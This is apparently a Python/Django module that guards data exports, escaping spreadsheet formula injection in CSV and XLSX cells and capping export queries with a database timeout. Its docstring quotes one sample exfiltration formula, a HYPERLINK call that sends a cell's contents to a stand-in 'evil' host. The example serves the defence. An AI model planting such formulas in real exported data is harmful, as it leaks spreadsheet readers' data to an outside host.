"""One place for what every export (CSV, XLSX, files of rows) must do.

- Spreadsheet formula injection: a text cell that starts with `=`, `+`, `-`, `@`, a tab or a
  carriage return is a formula (or becomes one) in Excel, WPS and LibreOffice, so
  `=HYPERLINK("http://evil/?"&A1)` typed into a description would run in the reader's
  spreadsheet. Such cells are written with a leading apostrophe (OWASP's advice): shown as
  text, nothing lost. Numbers, dates and booleans are left as they are.
- A bound in time: the queries of an export run under `statement_timeout`, and a cancelled
  export answers 503 with the reason instead of holding a worker.
"""
import csv
from contextlib import contextmanager

from django.conf import settings
from django.db import OperationalError, connection, transaction
from django.utils.translation import gettext_lazy as _
from rest_framework.exceptions import APIException

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value, with a text cell that a spreadsheet would read as a formula made plain text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values) -> list:
    return [safe_cell(v) for v in values]


class SafeCSVWriter:
    """csv.writer whose every row goes through safe_row."""

    def __init__(self, fileobj, **kwargs):
        self._w = csv.writer(fileobj, **kwargs)

    def writerow(self, row):
        return self._w.writerow(safe_row(row))

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(fileobj, **kwargs) -> SafeCSVWriter:
    """The writer every CSV export uses."""
    return SafeCSVWriter(fileobj, **kwargs)


def xlsx_append(worksheet, values) -> None:
    """Append a row to an openpyxl worksheet with every text cell stored as text: openpyxl would
    otherwise store a string starting with `=` as a live formula."""
    worksheet.append(safe_row(values))
    for cell in worksheet[worksheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"


class ExportTimedOut(APIException):
    status_code = 503
    default_detail = _("The export took too long and was stopped; narrow it with filters (a grid, a date range) "
                       "and try again.")
    default_code = "export_timeout"


@contextmanager
def bounded_export(timeout_ms: int | None = None):
    """Run the block's queries under statement_timeout (GEOGRID_EXPORT_TIMEOUT_MS); a query
    cancelled by it becomes ExportTimedOut (503 with the reason)."""
    ms = int(timeout_ms if timeout_ms is not None else getattr(settings, "GEOGRID_EXPORT_TIMEOUT_MS", 30000))
    try:
        with transaction.atomic():
            with connection.cursor() as cur:
                # SET LOCAL: the limit ends with this transaction, pooled connections keep none.
                cur.execute("SELECT set_config('statement_timeout', %s, true)", [str(ms)])
            yield
    except OperationalError as exc:
        if getattr(getattr(exc, "__cause__", None), "pgcode", None) == "57014":  # query_canceled
            raise ExportTimedOut() from exc
        raise
